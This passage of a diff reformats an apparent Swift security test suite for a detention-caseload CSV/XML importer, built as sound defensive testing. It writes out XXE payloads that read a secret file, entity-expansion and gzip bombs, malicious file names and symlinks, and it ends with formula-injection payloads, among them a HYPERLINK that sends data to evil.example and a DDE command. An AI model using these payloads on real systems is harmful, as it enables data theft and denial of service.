@@ -11,7 +11,7 @@ import Foundation
 import Testing
 import TestSupport
 #if canImport(Glibc)
-import Glibc
+    import Glibc
 #endif
 
 /// One attack: what it puts into the input folder and what the run must say about it.
@@ -43,7 +43,9 @@ struct Scene {
         root = makeTemporaryFolder("caseload-hostile")
         mkdir(root + "/Input", 0o755)
         try Self.secret.write(toFile: root + "/secret.txt", atomically: false, encoding: .utf8)
-        write("facilities.csv", """
+        write(
+            "facilities.csv",
+            """
             facility_code,name,kind,province,city,opened,closed
             IDC-TPI,Rudenim Tanjung Pinang,IDC,ID-KR,Tanjung Pinang,2010-01,
             SH-JKT,Shelter Jakarta,SHELTER,ID-JK,Jakarta,2010-01,
@@ -101,208 +103,304 @@ enum Attacks {
 
     // MARK: XML: external entities in every form, expansion, nesting, sizes
     static let xml: [Attack] = [
-        Attack(name: "external general entity (XXE) of a local file", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(entity.replacingOccurrences(of: "SECRET", with: s.secretPath))]>\n", Scene.migrant(1, caseID: "&x;")))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "external parameter entity", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY % p SYSTEM \"file://\(s.secretPath)\"> %p;]>\n", Scene.migrant(1)))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "external DTD as system identifier", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission SYSTEM \"\(s.secretPath)\">\n", Scene.migrant(1)))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "external DTD over the network", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission PUBLIC \"-//IOM//x//EN\" \"http://127.0.0.1:9/x.dtd\">\n", Scene.migrant(1)))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "external entity in an attribute value", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n", rootAttributes: " revision=\"&x;\"", Scene.migrant(1)))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "entity declared after the root element's name in a later line", build: { s in
-            s.write(X, "<?xml version=\"1.0\"?>\n\n<!DOCTYPE\n submission [\n<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n<submission>&x;</submission>\n")
-        }, issues: ["XML_DOCTYPE \(X):3"]),
-        Attack(name: "XInclude of a local file", build: { s in
-            s.write(X, Scene.xml(Scene.migrant(1, extra: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://\(s.secretPath)\" parse=\"text\"/>")))
-        }, issues: ["XML_SCHEMA \(X):3"]),
-        Attack(name: "xsi:schemaLocation and noNamespaceSchemaLocation pointing at a local file (never fetched)", build: { s in
-            s.write(X, Scene.xml(rootAttributes: " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:iom-idn:caseload:submission:1 file://\(s.secretPath)\" xsi:noNamespaceSchemaLocation=\"file://\(s.secretPath)\"", Scene.migrant(1)))
-        }, issues: [], status: 0),
-        Attack(name: "xml-stylesheet processing instruction pointing at a local file (never fetched)", build: { s in
-            s.write(X, Scene.xml(prolog: "<?xml-stylesheet type=\"text/xsl\" href=\"file://\(s.secretPath)\"?>\n", Scene.migrant(1)))
-        }, issues: [], status: 0),
-        Attack(name: "billion laughs", build: { s in
-            var d = "<!ENTITY l0 \"lol\">"
-            for i in 1...9 { d += "<!ENTITY l\(i) \"" + String(repeating: "&l\(i - 1);", count: 10) + "\">" }
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(d)]>\n", Scene.migrant(1, caseID: "&l9;")))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "quadratic blowup (a 100 kB entity used 50,000 times)", build: { s in
-            s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY a \"" + String(repeating: "x", count: 100_000) + "\">]>\n",
-                                 Scene.migrant(1, caseID: String(repeating: "&a;", count: 50_000))))
-        }, issues: ["XML_DOCTYPE \(X):2"]),
-        Attack(name: "nesting 100,000 elements deep", build: { s in
-            s.write(X, Scene.xml(String(repeating: "<migrant>", count: 100_000) + String(repeating: "</migrant>", count: 100_000)))
-        }, issues: ["XML_MALFORMED \(X):3"]),
-        Attack(name: "a text node of 12 MB", build: { s in
-            s.write(X, Scene.xml(Scene.migrant(1, caseID: String(repeating: "A", count: 12_000_000))))
-        }, issues: ["XML_MALFORMED \(X):3"]),
-        Attack(name: "an attribute value of 12 MB", build: { s in
-            s.write(X, Scene.xml(rootAttributes: " note=\"" + String(repeating: "A", count: 12_000_000) + "\"", Scene.migrant(1)))
-        }, issues: ["XML_MALFORMED \(X):2"]),
-        Attack(name: "a comment of 12 MB", build: { s in
-            s.write(X, Scene.xml("<!--" + String(repeating: "c", count: 12_000_000) + "-->" + Scene.migrant(1)))
-        }, issues: ["XML_MALFORMED \(X):3"]),
-        Attack(name: "an element name of 60,000 bytes", build: { s in
-            s.write(X, Scene.xml("<" + String(repeating: "n", count: 60_000) + "/>"))
-        }, issues: ["XML_MALFORMED \(X):3"]),
-        Attack(name: "a gzip bomb renamed .xml (1 GiB of zeros, never inflated)", build: { s in
-            let path = s.input + "/" + X
-            let r = try Binary.run(["-c", "import gzip,sys\nm=gzip.compress(bytes(1<<20),9)\nopen(sys.argv[1],'wb').write(m*1024)", path],
-                                   executable: "/usr/bin/env", prefix: ["python3"])
-            precondition(r.status == 0)
-        }, issues: ["ENCODING \(X):1"], maxMiB: 96),
-        Attack(name: "XML in UTF-16 with its declaration", build: { s in
-            s.write(X, [0xFF, 0xFE] + Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "UTF-16").utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
-        }, issues: ["ENCODING \(X):1"]),
-        Attack(name: "XML declaring ISO-8859-1 with Latin-1 bytes", build: { s in
-            s.write(X, Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "ISO-8859-1").utf8) + Array("<!-- caf".utf8) + [0xE9] + Array(" -->\n".utf8))
-        }, issues: ["ENCODING \(X):5"]),
+        Attack(
+            name: "external general entity (XXE) of a local file",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(entity.replacingOccurrences(of: "SECRET", with: s.secretPath))]>\n", Scene.migrant(1, caseID: "&x;")))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "external parameter entity",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY % p SYSTEM \"file://\(s.secretPath)\"> %p;]>\n", Scene.migrant(1)))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "external DTD as system identifier",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission SYSTEM \"\(s.secretPath)\">\n", Scene.migrant(1)))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "external DTD over the network",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission PUBLIC \"-//IOM//x//EN\" \"http://127.0.0.1:9/x.dtd\">\n", Scene.migrant(1)))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "external entity in an attribute value",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n", rootAttributes: " revision=\"&x;\"", Scene.migrant(1)))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "entity declared after the root element's name in a later line",
+            build: { s in
+                s.write(X, "<?xml version=\"1.0\"?>\n\n<!DOCTYPE\n submission [\n<!ENTITY x SYSTEM \"file://\(s.secretPath)\">]>\n<submission>&x;</submission>\n")
+            }, issues: ["XML_DOCTYPE \(X):3"]),
+        Attack(
+            name: "XInclude of a local file",
+            build: { s in
+                s.write(X, Scene.xml(Scene.migrant(1, extra: "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file://\(s.secretPath)\" parse=\"text\"/>")))
+            }, issues: ["XML_SCHEMA \(X):3"]),
+        Attack(
+            name: "xsi:schemaLocation and noNamespaceSchemaLocation pointing at a local file (never fetched)",
+            build: { s in
+                s.write(X, Scene.xml(rootAttributes: " xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:iom-idn:caseload:submission:1 file://\(s.secretPath)\" xsi:noNamespaceSchemaLocation=\"file://\(s.secretPath)\"", Scene.migrant(1)))
+            }, issues: [], status: 0),
+        Attack(
+            name: "xml-stylesheet processing instruction pointing at a local file (never fetched)",
+            build: { s in
+                s.write(X, Scene.xml(prolog: "<?xml-stylesheet type=\"text/xsl\" href=\"file://\(s.secretPath)\"?>\n", Scene.migrant(1)))
+            }, issues: [], status: 0),
+        Attack(
+            name: "billion laughs",
+            build: { s in
+                var d = "<!ENTITY l0 \"lol\">"
+                for i in 1...9 { d += "<!ENTITY l\(i) \"" + String(repeating: "&l\(i - 1);", count: 10) + "\">" }
+                s.write(X, Scene.xml(prolog: "<!DOCTYPE submission [\(d)]>\n", Scene.migrant(1, caseID: "&l9;")))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "quadratic blowup (a 100 kB entity used 50,000 times)",
+            build: { s in
+                s.write(
+                    X,
+                    Scene.xml(
+                        prolog: "<!DOCTYPE submission [<!ENTITY a \"" + String(repeating: "x", count: 100_000) + "\">]>\n",
+                        Scene.migrant(1, caseID: String(repeating: "&a;", count: 50_000))))
+            }, issues: ["XML_DOCTYPE \(X):2"]),
+        Attack(
+            name: "nesting 100,000 elements deep",
+            build: { s in
+                s.write(X, Scene.xml(String(repeating: "<migrant>", count: 100_000) + String(repeating: "</migrant>", count: 100_000)))
+            }, issues: ["XML_MALFORMED \(X):3"]),
+        Attack(
+            name: "a text node of 12 MB",
+            build: { s in
+                s.write(X, Scene.xml(Scene.migrant(1, caseID: String(repeating: "A", count: 12_000_000))))
+            }, issues: ["XML_MALFORMED \(X):3"]),
+        Attack(
+            name: "an attribute value of 12 MB",
+            build: { s in
+                s.write(X, Scene.xml(rootAttributes: " note=\"" + String(repeating: "A", count: 12_000_000) + "\"", Scene.migrant(1)))
+            }, issues: ["XML_MALFORMED \(X):2"]),
+        Attack(
+            name: "a comment of 12 MB",
+            build: { s in
+                s.write(X, Scene.xml("<!--" + String(repeating: "c", count: 12_000_000) + "-->" + Scene.migrant(1)))
+            }, issues: ["XML_MALFORMED \(X):3"]),
+        Attack(
+            name: "an element name of 60,000 bytes",
+            build: { s in
+                s.write(X, Scene.xml("<" + String(repeating: "n", count: 60_000) + "/>"))
+            }, issues: ["XML_MALFORMED \(X):3"]),
+        Attack(
+            name: "a gzip bomb renamed .xml (1 GiB of zeros, never inflated)",
+            build: { s in
+                let path = s.input + "/" + X
+                let r = try Binary.run(
+                    ["-c", "import gzip,sys\nm=gzip.compress(bytes(1<<20),9)\nopen(sys.argv[1],'wb').write(m*1024)", path],
+                    executable: "/usr/bin/env", prefix: ["python3"])
+                precondition(r.status == 0)
+            }, issues: ["ENCODING \(X):1"], maxMiB: 96),
+        Attack(
+            name: "XML in UTF-16 with its declaration",
+            build: { s in
+                s.write(X, [0xFF, 0xFE] + Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "UTF-16").utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
+            }, issues: ["ENCODING \(X):1"]),
+        Attack(
+            name: "XML declaring ISO-8859-1 with Latin-1 bytes",
+            build: { s in
+                s.write(X, Array(Scene.xml(Scene.migrant(1)).replacingOccurrences(of: "UTF-8", with: "ISO-8859-1").utf8) + Array("<!-- caf".utf8) + [0xE9] + Array(" -->\n".utf8))
+            }, issues: ["ENCODING \(X):5"]),
     ]
 
     // MARK: bytes that are not text
     static let csvBytes: [Attack] = [
-        Attack(name: "invalid UTF-8 in a CSV row", build: { s in
-            s.write(C, Array((Scene.detentionHeader + "\n" + Scene.detentionRow(1) + "\n").utf8) + Array("IDN-2011-000002,,Rahimi,Al".utf8) + [0xC3, 0x28] + Array(",M\n".utf8))
-        }, issues: ["ENCODING \(C):3"]),
-        Attack(name: "an overlong UTF-8 encoding of '/'", build: { s in
-            s.write(C, Array((Scene.detentionHeader + "\n").utf8) + [0xC0, 0xAF] + Array("\n".utf8))
-        }, issues: ["ENCODING \(C):2"]),
-        Attack(name: "UTF-8 truncated at the end of the file", build: { s in
-            s.write(C, Array(Scene.detentionCSV(rows: 2).utf8) + [0xE2, 0x82])
-        }, issues: ["ENCODING \(C):4"]),
-        Attack(name: "a surrogate encoded in UTF-8", build: { s in
-            s.write(S, Array("case_id\n".utf8) + [0xED, 0xA0, 0x80, 0x0A])
-        }, issues: ["ENCODING \(S):2"]),
-        Attack(name: "CSV in UTF-16LE with a byte-order mark", build: { s in
-            s.write(C, [0xFF, 0xFE] + Array(Scene.detentionCSV(rows: 2).utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
-        }, issues: ["ENCODING \(C):1"]),
-        Attack(name: "a NUL byte in a CSV row", build: { s in
-            s.write(C, Array(Scene.detentionCSV(rows: 3).utf8) + Array("IDN-2011-000009,,Rahimi,Ali".utf8) + [0] + Array(",M\n".utf8))
-        }, issues: ["ENCODING \(C):5"]),
-        Attack(name: "a NUL byte in XML", build: { s in
-            s.write(X, Array(Scene.xml(Scene.migrant(1)).utf8) + [0])
-        }, issues: ["ENCODING \(X):5"]),
-        Attack(name: "an ELF executable renamed .csv", build: { s in
-            let elf = readAll(Binary.path)!.prefix(200_000)
-            s.write(C, [UInt8](elf))
-        }, issues: ["ENCODING \(C):1"]),
-        Attack(name: "random bytes renamed .xml", build: { s in
-            var g = SystemRandomNumberGenerator()
-            s.write(X, (0..<100_000).map { _ in UInt8.random(in: 0...255, using: &g) | 0x80 })
-        }, issues: ["ENCODING \(X):1"]),
+        Attack(
+            name: "invalid UTF-8 in a CSV row",
+            build: { s in
+                s.write(C, Array((Scene.detentionHeader + "\n" + Scene.detentionRow(1) + "\n").utf8) + Array("IDN-2011-000002,,Rahimi,Al".utf8) + [0xC3, 0x28] + Array(",M\n".utf8))
+            }, issues: ["ENCODING \(C):3"]),
+        Attack(
+            name: "an overlong UTF-8 encoding of '/'",
+            build: { s in
+                s.write(C, Array((Scene.detentionHeader + "\n").utf8) + [0xC0, 0xAF] + Array("\n".utf8))
+            }, issues: ["ENCODING \(C):2"]),
+        Attack(
+            name: "UTF-8 truncated at the end of the file",
+            build: { s in
+                s.write(C, Array(Scene.detentionCSV(rows: 2).utf8) + [0xE2, 0x82])
+            }, issues: ["ENCODING \(C):4"]),
+        Attack(
+            name: "a surrogate encoded in UTF-8",
+            build: { s in
+                s.write(S, Array("case_id\n".utf8) + [0xED, 0xA0, 0x80, 0x0A])
+            }, issues: ["ENCODING \(S):2"]),
+        Attack(
+            name: "CSV in UTF-16LE with a byte-order mark",
+            build: { s in
+                s.write(C, [0xFF, 0xFE] + Array(Scene.detentionCSV(rows: 2).utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] })
+            }, issues: ["ENCODING \(C):1"]),
+        Attack(
+            name: "a NUL byte in a CSV row",
+            build: { s in
+                s.write(C, Array(Scene.detentionCSV(rows: 3).utf8) + Array("IDN-2011-000009,,Rahimi,Ali".utf8) + [0] + Array(",M\n".utf8))
+            }, issues: ["ENCODING \(C):5"]),
+        Attack(
+            name: "a NUL byte in XML",
+            build: { s in
+                s.write(X, Array(Scene.xml(Scene.migrant(1)).utf8) + [0])
+            }, issues: ["ENCODING \(X):5"]),
+        Attack(
+            name: "an ELF executable renamed .csv",
+            build: { s in
+                let elf = readAll(Binary.path)!.prefix(200_000)
+                s.write(C, [UInt8](elf))
+            }, issues: ["ENCODING \(C):1"]),
+        Attack(
+            name: "random bytes renamed .xml",
+            build: { s in
+                var g = SystemRandomNumberGenerator()
+                s.write(X, (0..<100_000).map { _ in UInt8.random(in: 0...255, using: &g) | 0x80 })
+            }, issues: ["ENCODING \(X):1"]),
     ]
 
     // MARK: limits: huge lines, headers, fields, quotes, blank lines, size
     static let limits: [Attack] = [
-        Attack(name: "a field growing past 1 MiB on one line", build: { s in
-            s.write(C, Scene.detentionCSV(rows: 2) + "IDN-2011-000009,," + String(repeating: "N", count: 1_100_000) + ",Ali,M,1989,AFG,2011-11-02,SEA,PENDING_RSD,,N,,FOOD\n")
-        }, issues: ["TOO_LARGE \(C):4"]),
-        Attack(name: "a 4 MB line of two million cells without a line end (cells past the header's are counted, not kept)", build: { s in
-            s.write(C, Scene.detentionHeader + "\n" + String(repeating: "x,", count: 2_000_000))
-        }, issues: ["FIELD_COUNT \(C):2", "TOO_MANY_REJECTS \(C)"], maxMiB: 48),
-        Attack(name: "a header of 5,000 cells", build: { s in
-            s.write(C, Scene.detentionHeader + String(repeating: ",extra", count: 5_000) + "\n" + Scene.detentionRow(1) + "\n")
-        }, issues: ["TOO_LARGE \(C):1"]),
-        Attack(name: "a header cell of 2 MB", build: { s in
-            s.write(C, String(repeating: "h", count: 2_000_000) + "\n")
-        }, issues: ["TOO_LARGE \(C):1"]),
-        Attack(name: "an unterminated quote in a big file (TOO_LARGE where it opened)", build: { s in
-            s.write(C, Scene.detentionCSV(rows: 40) + "\"IDN-2011-000099,,Rahimi\n" + (100...60_099).map(Scene.detentionRow).joined(separator: "\n") + "\n")
-        }, issues: ["TOO_LARGE \(C):42"]),
-        Attack(name: "an unterminated quote in a small file (CSV_SYNTAX where it opened)", build: { s in
-            s.write(C, Scene.detentionCSV(rows: 4) + "IDN-2011-000099,,\"Rahimi,Ali\n")
-        }, issues: ["CSV_SYNTAX \(C):6"]),
-        Attack(name: "three million empty lines (skipped)", build: { s in
-            s.write(C, Scene.detentionHeader + "\n" + String(repeating: "\n", count: 3_000_000) + Scene.detentionRow(1) + "\n" + String(repeating: "\r\n", count: 1_000_000))
-        }, issues: [], status: 0),
-        Attack(name: "twenty thousand rows of empty cells (one BLANK_ROW each)", build: { s in
-            s.write(C, Scene.detentionCSV(rows: 1) + String(repeating: ",,,,,,,,,,,,,\n", count: 20_000))
-        }, issues: (3...20_002).map { "BLANK_ROW \(C):\($0)" }, status: 0),
-        Attack(name: "a file over 1 GiB (sparse, judged by its size and never read)", build: { s in
-            let fd = open(s.input + "/" + C, O_CREAT | O_WRONLY, 0o644)
-            precondition(fd >= 0 && ftruncate(fd, (1 << 30) + 1) == 0)
-            close(fd)
-        }, issues: ["TOO_LARGE \(C)"], maxMiB: 96),
-        Attack(name: "an empty file and a file of line ends", build: { s in
-            s.write(C, "")
-            s.write(S, "\n\r\n\r\n")
-        }, issues: ["EMPTY_FILE \(C)", "EMPTY_FILE \(S)"]),
+        Attack(
+            name: "a field growing past 1 MiB on one line",
+            build: { s in
+                s.write(C, Scene.detentionCSV(rows: 2) + "IDN-2011-000009,," + String(repeating: "N", count: 1_100_000) + ",Ali,M,1989,AFG,2011-11-02,SEA,PENDING_RSD,,N,,FOOD\n")
+            }, issues: ["TOO_LARGE \(C):4"]),
+        Attack(
+            name: "a 4 MB line of two million cells without a line end (cells past the header's are counted, not kept)",
+            build: { s in
+                s.write(C, Scene.detentionHeader + "\n" + String(repeating: "x,", count: 2_000_000))
+            }, issues: ["FIELD_COUNT \(C):2", "TOO_MANY_REJECTS \(C)"], maxMiB: 48),
+        Attack(
+            name: "a header of 5,000 cells",
+            build: { s in
+                s.write(C, Scene.detentionHeader + String(repeating: ",extra", count: 5_000) + "\n" + Scene.detentionRow(1) + "\n")
+            }, issues: ["TOO_LARGE \(C):1"]),
+        Attack(
+            name: "a header cell of 2 MB",
+            build: { s in
+                s.write(C, String(repeating: "h", count: 2_000_000) + "\n")
+            }, issues: ["TOO_LARGE \(C):1"]),
+        Attack(
+            name: "an unterminated quote in a big file (TOO_LARGE where it opened)",
+            build: { s in
+                s.write(C, Scene.detentionCSV(rows: 40) + "\"IDN-2011-000099,,Rahimi\n" + (100...60_099).map(Scene.detentionRow).joined(separator: "\n") + "\n")
+            }, issues: ["TOO_LARGE \(C):42"]),
+        Attack(
+            name: "an unterminated quote in a small file (CSV_SYNTAX where it opened)",
+            build: { s in
+                s.write(C, Scene.detentionCSV(rows: 4) + "IDN-2011-000099,,\"Rahimi,Ali\n")
+            }, issues: ["CSV_SYNTAX \(C):6"]),
+        Attack(
+            name: "three million empty lines (skipped)",
+            build: { s in
+                s.write(C, Scene.detentionHeader + "\n" + String(repeating: "\n", count: 3_000_000) + Scene.detentionRow(1) + "\n" + String(repeating: "\r\n", count: 1_000_000))
+            }, issues: [], status: 0),
+        Attack(
+            name: "twenty thousand rows of empty cells (one BLANK_ROW each)",
+            build: { s in
+                s.write(C, Scene.detentionCSV(rows: 1) + String(repeating: ",,,,,,,,,,,,,\n", count: 20_000))
+            }, issues: (3...20_002).map { "BLANK_ROW \(C):\($0)" }, status: 0),
+        Attack(
+            name: "a file over 1 GiB (sparse, judged by its size and never read)",
+            build: { s in
+                let fd = open(s.input + "/" + C, O_CREAT | O_WRONLY, 0o644)
+                precondition(fd >= 0 && ftruncate(fd, (1 << 30) + 1) == 0)
+                close(fd)
+            }, issues: ["TOO_LARGE \(C)"], maxMiB: 96),
+        Attack(
+            name: "an empty file and a file of line ends",
+            build: { s in
+                s.write(C, "")
+                s.write(S, "\n\r\n\r\n")
+            }, issues: ["EMPTY_FILE \(C)", "EMPTY_FILE \(S)"]),
     ]
 
     // MARK: odd file names
     static let names: [Attack] = [
-        Attack(name: "odd file names", build: { s in
-            for n in ["detention_IDC-TPI_2012-03.csv\n.csv", "-rf.csv", "=HYPERLINK(\"http:⁄⁄x\").csv", "detention_IDC-TPI_2012-03.csv.csv",
-                      "DETENTION_IDC-TPI_2012-03.csv", "detention_IDC-TPI_2012-3.csv", "detention_IDC-TPI_2012-03_r0.csv",
-                      "detention_IDC-TPI_2012-03\u{202E}vsc.xml", "detention_ＩＤＣ-TPI_2012-03.csv", "a,b\"c.csv", " detention_IDC-TPI_2012-03.csv",
-                      String(repeating: "d", count: 250) + ".csv"] {
-                s.write(n, Scene.detentionCSV(rows: 1))
-            }
-            // A name that is not UTF-8, through the C API.
-            let bytes = Array((s.input + "/detention_IDC-TPI_2012-0").utf8) + [0xFF, 0x33] + Array(".csv".utf8) + [0]
-            let fd = bytes.withUnsafeBufferPointer { $0.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_CREAT | O_WRONLY, 0o644) } }
-            precondition(fd >= 0)
-            close(fd)
-        }, issues: ["FILE_NAME  detention_IDC-TPI_2012-03.csv", "FILE_NAME …" + String(repeating: "d", count: 195) + ".csv",
-                    "FILE_NAME '-rf.csv", "FILE_NAME '=HYPERLINK(\"http:⁄⁄x\").csv", "FILE_NAME DETENTION_IDC-TPI_2012-03.csv",
-                    "FILE_NAME a,b\"c.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv\u{FFFD}.csv",
-                    "FILE_NAME detention_IDC-TPI_2012-03\u{202E}vsc.xml", "FILE_NAME detention_IDC-TPI_2012-03_r0.csv",
-                    "FILE_NAME detention_IDC-TPI_2012-0\u{FFFD}3.csv", "FILE_NAME detention_IDC-TPI_2012-3.csv",
-                    "FILE_NAME detention_ＩＤＣ-TPI_2012-03.csv"]),
+        Attack(
+            name: "odd file names",
+            build: { s in
+                for n in [
+                    "detention_IDC-TPI_2012-03.csv\n.csv", "-rf.csv", "=HYPERLINK(\"http:⁄⁄x\").csv", "detention_IDC-TPI_2012-03.csv.csv",
+                    "DETENTION_IDC-TPI_2012-03.csv", "detention_IDC-TPI_2012-3.csv", "detention_IDC-TPI_2012-03_r0.csv",
+                    "detention_IDC-TPI_2012-03\u{202E}vsc.xml", "detention_ＩＤＣ-TPI_2012-03.csv", "a,b\"c.csv", " detention_IDC-TPI_2012-03.csv",
+                    String(repeating: "d", count: 250) + ".csv",
+                ] {
+                    s.write(n, Scene.detentionCSV(rows: 1))
+                }
+                // A name that is not UTF-8, through the C API.
+                let bytes = Array((s.input + "/detention_IDC-TPI_2012-0").utf8) + [0xFF, 0x33] + Array(".csv".utf8) + [0]
+                let fd = bytes.withUnsafeBufferPointer { $0.withMemoryRebound(to: CChar.self) { open($0.baseAddress!, O_CREAT | O_WRONLY, 0o644) } }
+                precondition(fd >= 0)
+                close(fd)
+            },
+            issues: [
+                "FILE_NAME  detention_IDC-TPI_2012-03.csv", "FILE_NAME …" + String(repeating: "d", count: 195) + ".csv",
+                "FILE_NAME '-rf.csv", "FILE_NAME '=HYPERLINK(\"http:⁄⁄x\").csv", "FILE_NAME DETENTION_IDC-TPI_2012-03.csv",
+                "FILE_NAME a,b\"c.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv.csv", "FILE_NAME detention_IDC-TPI_2012-03.csv\u{FFFD}.csv",
+                "FILE_NAME detention_IDC-TPI_2012-03\u{202E}vsc.xml", "FILE_NAME detention_IDC-TPI_2012-03_r0.csv",
+                "FILE_NAME detention_IDC-TPI_2012-0\u{FFFD}3.csv", "FILE_NAME detention_IDC-TPI_2012-3.csv",
+                "FILE_NAME detention_ＩＤＣ-TPI_2012-03.csv",
+            ])
     ]
 
     // MARK: links, FIFOs, sockets, devices, folders
     static let entries: [Attack] = [
-        Attack(name: "symbolic links into and out of the folder", build: { s in
-            precondition(symlink(s.input + "/detention_IDC-TPI_2012-02.csv", s.input + "/" + C) == 0)
-            precondition(symlink(s.secretPath, s.input + "/" + S) == 0)
-            precondition(symlink("/nonexistent/x", s.input + "/detention_IDC-TPI_2012-04.csv") == 0)
-            precondition(symlink(s.input + "/detention_IDC-TPI_2012-05.csv", s.input + "/detention_IDC-TPI_2012-05.csv") == 0)
-            // A linked folder outside holding a good file: never entered.
-            mkdir(s.root + "/outside", 0o755)
-            try Scene.detentionCSV(rows: 1).write(toFile: s.root + "/outside/detention_IDC-TPI_2012-06.csv", atomically: false, encoding: .utf8)
-            precondition(symlink(s.root + "/outside", s.input + "/2012") == 0)
-        }, issues: ["FILE_NAME 2012", "UNREADABLE \(C)", "UNREADABLE detention_IDC-TPI_2012-04.csv",
-                    "UNREADABLE detention_IDC-TPI_2012-05.csv", "UNREADABLE \(S)"]),
-        Attack(name: "a FIFO, a socket and a device (never opened: the run does not hang)", build: { s in
-            precondition(mkfifo(s.input + "/" + C, 0o644) == 0)
-            precondition(mknod(s.input + "/" + X, S_IFCHR | 0o644, (1 << 8) | 5) == 0)  // /dev/zero
-            let fd = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
-            var addr = sockaddr_un()
-            addr.sun_family = sa_family_t(AF_UNIX)
-            let path = Array((s.input + "/" + S).utf8CString)
-            withUnsafeMutableBytes(of: &addr.sun_path) { raw in for (i, c) in path.enumerated() where i < raw.count { raw[i] = UInt8(bitPattern: c) } }
-            let rc = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) } }
-            precondition(rc == 0)
-            close(fd)
-        }, issues: ["UNREADABLE \(C)", "UNREADABLE \(X)", "UNREADABLE \(S)"]),
+        Attack(
+            name: "symbolic links into and out of the folder",
+            build: { s in
+                precondition(symlink(s.input + "/detention_IDC-TPI_2012-02.csv", s.input + "/" + C) == 0)
+                precondition(symlink(s.secretPath, s.input + "/" + S) == 0)
+                precondition(symlink("/nonexistent/x", s.input + "/detention_IDC-TPI_2012-04.csv") == 0)
+                precondition(symlink(s.input + "/detention_IDC-TPI_2012-05.csv", s.input + "/detention_IDC-TPI_2012-05.csv") == 0)
+                // A linked folder outside holding a good file: never entered.
+                mkdir(s.root + "/outside", 0o755)
+                try Scene.detentionCSV(rows: 1).write(toFile: s.root + "/outside/detention_IDC-TPI_2012-06.csv", atomically: false, encoding: .utf8)
+                precondition(symlink(s.root + "/outside", s.input + "/2012") == 0)
+            },
+            issues: [
+                "FILE_NAME 2012", "UNREADABLE \(C)", "UNREADABLE detention_IDC-TPI_2012-04.csv",
+                "UNREADABLE detention_IDC-TPI_2012-05.csv", "UNREADABLE \(S)",
+            ]),
+        Attack(
+            name: "a FIFO, a socket and a device (never opened: the run does not hang)",
+            build: { s in
+                precondition(mkfifo(s.input + "/" + C, 0o644) == 0)
+                precondition(mknod(s.input + "/" + X, S_IFCHR | 0o644, (1 << 8) | 5) == 0)  // /dev/zero
+                let fd = socket(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0)
+                var addr = sockaddr_un()
+                addr.sun_family = sa_family_t(AF_UNIX)
+                let path = Array((s.input + "/" + S).utf8CString)
+                withUnsafeMutableBytes(of: &addr.sun_path) { raw in for (i, c) in path.enumerated() where i < raw.count { raw[i] = UInt8(bitPattern: c) } }
+                let rc = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_un>.size)) } }
+                precondition(rc == 0)
+                close(fd)
+            }, issues: ["UNREADABLE \(C)", "UNREADABLE \(X)", "UNREADABLE \(S)"]),
     ]
 
     // MARK: formula payloads in every field
     static let payloads: [Attack] = [
-        Attack(name: "formula payloads in every CSV and XML field", build: { s in
-            let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "|calc", "%0A=1", "\t=1", "\r=1"]
-            var rows: [String] = []
-            for f in formulas {
